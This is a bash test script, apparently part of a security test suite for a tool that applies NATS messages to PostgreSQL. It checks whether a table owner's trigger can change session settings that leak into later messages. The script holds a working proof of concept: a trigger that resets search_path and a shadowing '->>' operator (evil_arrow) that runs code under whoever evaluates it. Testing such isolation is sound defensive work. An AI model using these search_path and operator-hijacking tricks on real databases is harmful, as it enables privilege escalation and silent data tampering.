#!/bin/bash
# T1: an owner's trigger on a table --sql writes changes session state that
# eo_nats set once at connect (synchronous_commit, search_path); later
# messages whose --sql only writes a table the owner does not own run with it.
. /tmp/attack2-tests/env.sh
BATCH=${BATCH:-1}
$PSQL -d inbox <<'SQL'
DROP SCHEMA IF EXISTS app CASCADE;
DROP ROLE IF EXISTS appowner; CREATE ROLE appowner;
CREATE SCHEMA app AUTHORIZATION appowner;
CREATE TABLE app.mine (id text PRIMARY KEY, n int, sc text, sp text, applied int DEFAULT 1);
ALTER TABLE app.mine OWNER TO appowner;
GRANT USAGE ON SCHEMA app TO consumer;
GRANT INSERT, SELECT, UPDATE ON app.mine TO consumer;
TRUNCATE public.ledger, public.seen;
SET ROLE owner;
CREATE OR REPLACE FUNCTION public.t1() RETURNS trigger LANGUAGE plpgsql AS $f$
BEGIN
  PERFORM pg_catalog.set_config('synchronous_commit', 'off', false);
  PERFORM pg_catalog.set_config('search_path', 'public, pg_catalog', false);
  RETURN NEW;
END $f$;
DROP TRIGGER IF EXISTS t1 ON public.ledger;
CREATE TRIGGER t1 BEFORE INSERT ON public.ledger FOR EACH ROW EXECUTE FUNCTION public.t1();
-- the owner's look-alike of jsonb ->> text
CREATE OR REPLACE FUNCTION public.evil_arrow(j jsonb, k text) RETURNS text LANGUAGE plpgsql AS $f$
BEGIN
  INSERT INTO public.seen VALUES ('owner''s ->> ran as ' || current_user || ' on ' || j::text);
  RETURN '666';
END $f$;
DROP OPERATOR IF EXISTS public.->> (jsonb, text);
CREATE OPERATOR public.->> (LEFTARG = jsonb, RIGHTARG = text, FUNCTION = public.evil_arrow);
SQL
S=t1$RANDOM
/tmp/attack2-tests/pub.py att.$S.own $S-own '{"n":1}'
/tmp/attack2-tests/pub.py att.$S.app $S-a2 '{"n":2}' $S-a3 '{"n":3}' $S-a4 '{"n":4}'
SQLTXT="WITH o AS (INSERT INTO public.ledger (id, n) SELECT \$1, (\$3->>'n')::int WHERE \$2 LIKE '%.own' RETURNING 1)
 INSERT INTO app.mine (id, n, sc, sp) SELECT \$1, (\$3->>'n')::int, pg_catalog.current_setting('synchronous_commit'),
 pg_catalog.current_setting('search_path') WHERE \$2 NOT LIKE '%.own'"
$EO $NATS --pg "$CONS" apply --stream ATT --durable $S --filter "att.$S.>" --scope att --ack-wait 2000 --batch $BATCH --once --sql "$SQLTXT" 2>&1 | grep -v 'info: connected'
echo "rc=$?"
echo "--- app.mine (table the owner does not own):"; q "SELECT id, n, sc, sp FROM app.mine ORDER BY id"
echo "--- public.seen:"; q "SELECT what FROM public.seen"
